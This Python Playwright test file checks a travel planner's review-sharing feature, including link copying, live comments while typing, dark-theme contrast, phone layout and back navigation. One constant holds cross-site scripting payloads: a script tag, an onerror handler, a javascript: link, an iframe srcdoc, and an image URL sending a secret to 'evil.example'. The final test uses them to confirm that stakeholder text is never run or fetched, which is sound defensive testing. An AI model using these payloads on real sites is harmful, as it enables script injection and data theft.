"""Reviews for the planner, where only a browser shows it: the address copied, and what comes while one types."""

import re

import pytest
from playwright.sync_api import Page, expect

from db.models import utc_now
from services.reviews.records import DecisionKind
from services.reviews.visits import new_reader_key
from tests.helpers.browser import ask, open_app, wait_until, wait_until_at_rest
from tests.helpers.flaws import CONTRAST, flaws
from tests.helpers.planners import Planner
from tests.helpers.reviews import Reviews
from tests.helpers.services import Emulator
from tests.helpers.soak import IN_SOAK

pytestmark = pytest.mark.browser

ANNA = new_reader_key()
HOSTILE = """<script>window.ran = "script"</script><img src=x onerror="window.ran = 'image'">
![picture](https://evil.example/?secret=1) [by address](javascript:window.ran="link") $x$ :tada: `code
<iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>

The end
"""


def test_session_is_shared_and_what_is_said_appears_while_the_planner_types(
    page: Page, planner: Planner, reviews: Reviews
) -> None:
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    session_id = reviews.session(planner.id)
    open_app(page, planner.app, f"/?session={session_id}")
    page.locator(f".st-key-session_menu_{session_id} button:visible").click()
    page.get_by_role("menuitem", name="Share for review").or_(
        page.get_by_role("option", name="Share for review")
    ).click()
    page.locator(".st-key-review_share_go button").click()
    shown = page.locator(".st-key-review_address_text")
    expect(shown).to_contain_text("/review?link=")
    page.keyboard.press("Escape")  # it is shown only once: no slip closes it
    expect(page.get_by_role("dialog").get_by_label("Close")).to_have_count(0)
    page.get_by_role("button", name="Copy link").click()
    expect(page.get_by_text("Link copied")).to_be_visible()
    address = page.evaluate("navigator.clipboard.readText()")
    assert address == shown.inner_text().strip()
    found = re.fullmatch(re.escape(f"{planner.app.url}/review?link=") + r"([\w-]{32})", address)
    assert found
    token = found[1]

    page.get_by_role("button", name="See the link").click()
    expect(page.get_by_role("heading", name="Customer")).to_be_visible()
    reviews.visits.comment(token, ANNA, "Could we leave out the castle?", name="Anna")
    expect(page.get_by_text("Could we leave out the castle?")).to_be_visible()
    page.get_by_role("button", name="Reply", exact=True).click()
    box = page.get_by_role("textbox", name="Your reply")
    expect(box).to_be_focused()
    box.fill("Gladly: we could ")
    reviews.visits.comment(token, ANNA, "And the tram?", name="Anna")
    expect(page.get_by_text("And the tram?")).to_be_visible(timeout=5_000)
    sha256 = reviews.visits.look(token, ANNA).version.sha256
    reviews.visits.decide(token, ANNA, DecisionKind.DECLINE, name="Anna", sha256=sha256)
    expect(page.get_by_text("Declined by Anna (not verified)")).to_be_visible(timeout=5_000)
    expect(box).to_have_value("Gladly: we could ")
    box.press_sequentially("take the lift.")
    page.get_by_role("button", name="Send").click()

    expect(box).to_have_count(0)
    expect(page.get_by_text("Gladly: we could take the lift.")).to_be_visible()
    (newer, older) = reviews.comments.threads(int(page.url.rpartition("=")[2]), user_id=planner.id)
    assert (newer.answers, [one.text for one in older.answers]) == ((), ["Gladly: we could take the lift."])


@IN_SOAK
def test_mark_in_the_sidebar_appears_beside_a_reply_that_is_being_written(
    page: Page, planner: Planner, reviews: Reviews, shared_emulator: Emulator
) -> None:
    session_id = reviews.session(planner.id)
    link, other = (reviews.share(session_id, planner.id) for _ in range(2))
    shared_emulator.hold_reply(3)
    open_app(page, planner.app, f"/?session={session_id}")
    entry = page.get_by_test_id("stSidebar").get_by_role("link", name="Reviews")
    expect(entry).to_have_text(re.compile(r"Reviews$"))
    ask(page, "5 days in Lisbon in May")
    expect(page.get_by_role("button", name="Stop")).to_be_visible()

    reviews.visits.comment(link.token, ANNA, "Could we leave out the castle?", name="Anna")

    expect(entry).to_contain_text("Reviews 1")
    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    shared_emulator.release()
    expect(page.get_by_role("button", name="Stop")).to_have_count(0)
    reviews.visits.look(other.token, ANNA)
    expect(entry).to_contain_text("Reviews 2")


@IN_SOAK
def test_first_comment_on_a_message_appears_in_the_chat_while_the_planner_types(
    page: Page, planner: Planner, reviews: Reviews
) -> None:
    session_id = reviews.session(planner.id)
    link = reviews.share(session_id, planner.id)
    anchor = reviews.visits.look(link.token, ANNA).snapshot.blocks[1].anchor
    open_app(page, planner.app, f"/?session={session_id}")
    box = page.get_by_test_id("stChatInputTextArea")
    box.fill("And now")

    reviews.visits.comment(link.token, ANNA, "Could we leave out the castle?", name="Anna", anchor=anchor)

    expect(page.locator(f".st-key-chat_comments_{anchor}")).to_have_text(re.compile("1 comment$"))
    expect(box).to_have_value("And now")


@IN_SOAK
def test_what_is_pointed_at_can_be_read_in_the_dark_theme(page: Page, planner: Planner, reviews: Reviews) -> None:
    link = reviews.share(reviews.session(planner.id), planner.id)
    reviews.visits.comment(link.token, ANNA, "Could we leave out the castle?", name="Anna")
    page.emulate_media(color_scheme="dark")
    for address in (f"/reviews?review={link.review.id}", f"/review?link={link.token}"):
        page.goto(f"{planner.app.url}{address}")
        wait_until(page, "window.travelbotReady")
        expect(page.locator(".stMain").get_by_role("button", name="Comment").first).to_be_enabled()
        pointed_at = page.locator(".stMain").locator("button, summary").locator("visible=true")
        for number in range(pointed_at.count()):
            pointed_at.nth(number).hover()
            wait_until(page, "!document.getAnimations().some(({ playState }) => playState === 'running')")
            assert page.evaluate(CONTRAST) == []


@IN_SOAK
def test_list_and_link_can_be_read_and_used_on_a_phone(page: Page, planner: Planner, reviews: Reviews) -> None:
    page.set_viewport_size({"width": 390, "height": 844})
    link = reviews.share(reviews.session(planner.id), planner.id, approvals=2, due_on=utc_now().date())
    seen = reviews.visits.look(link.token, ANNA)
    anchor = seen.snapshot.blocks[1].anchor
    reviews.visits.comment(link.token, ANNA, "Leave it out?", name="Anna", anchor=anchor, passage="castle")
    reviews.comments.add(link.review.id, "She is 80.", user_id=planner.id, internal=True)
    sha256 = seen.version.sha256
    reviews.visits.decide(link.token, ANNA, DecisionKind.APPROVE, name="Anna", sha256=sha256)
    for address, words in (("/reviews", "Lisbon in May"), (f"/reviews?review={link.review.id}", "She is 80.")):
        page.goto(f"{planner.app.url}{address}")
        expect(page.locator(".stMain").get_by_text(words).first).to_be_visible()
        wait_until_at_rest(page)
        assert flaws(page) == []
        assert page.evaluate("document.querySelector('.stMain').scrollWidth <= innerWidth")


@IN_SOAK
def test_back_from_a_message_leads_to_the_link_that_one_came_from(
    page: Page, planner: Planner, reviews: Reviews
) -> None:
    link = reviews.share(reviews.session(planner.id), planner.id)
    anchor = reviews.visits.look(link.token, ANNA).snapshot.blocks[1].anchor
    reviews.visits.comment(link.token, ANNA, "Could we leave out the castle?", name="Anna", anchor=anchor)
    page.goto(f"{planner.app.url}/reviews")
    page.locator(f".st-key-reviews_open_{link.review.id} button").click()
    page.get_by_role("button", name="Show message").click()
    expect(page.get_by_test_id("stChatInputTextArea")).to_be_visible()

    page.go_back()

    expect(page.get_by_role("heading", name="Customer")).to_be_visible()
    page.get_by_role("button", name="All reviews").click()
    expect(page.get_by_role("heading", name="Reviews")).to_be_visible()
    page.locator(f".st-key-reviews_open_{link.review.id} button").click()
    expect(page.get_by_role("heading", name="Customer")).to_be_visible()
    page.get_by_test_id("stSidebar").get_by_role("link", name="Reviews").click()
    expect(page.get_by_role("heading", name="Reviews")).to_be_visible()


@IN_SOAK
def test_nothing_that_a_stakeholder_writes_is_run_or_fetched(page: Page, planner: Planner, reviews: Reviews) -> None:
    session_id = reviews.session(planner.id)
    link = reviews.share(session_id, planner.id, audience=HOSTILE[:70], note=HOSTILE)
    shown = reviews.visits.look(link.token, ANNA)
    anchor, sha256 = shown.snapshot.blocks[1].anchor, shown.version.sha256
    reviews.visits.comment(link.token, ANNA, HOSTILE, name=HOSTILE[:70], anchor=anchor)
    reviews.visits.decide(link.token, ANNA, DecisionKind.DECLINE, name=HOSTILE[:70], note=HOSTILE, sha256=sha256)
    fetched: list[str] = []
    page.on("request", lambda request: fetched.append(request.url))

    page.goto(f"{planner.app.url}/reviews?review={link.review.id}")
    expect(page.get_by_text("The end")).to_have_count(3)  # comment, decision, note
    page.get_by_role("button", name="All reviews").click()
    expect(page.get_by_text("<script>window.ran").first).to_be_visible()
    page.goto(f"{planner.app.url}/?session={session_id}")
    page.get_by_role("button", name="1 comment").click()
    expect(page.get_by_role("dialog")).to_contain_text("The end")

    assert page.evaluate("window.ran") is None
    assert page.evaluate("document.querySelectorAll('main iframe, [srcdoc], [onclick], [onerror]').length") == 0
    assert not [url for url in fetched if "evil.example" in url]
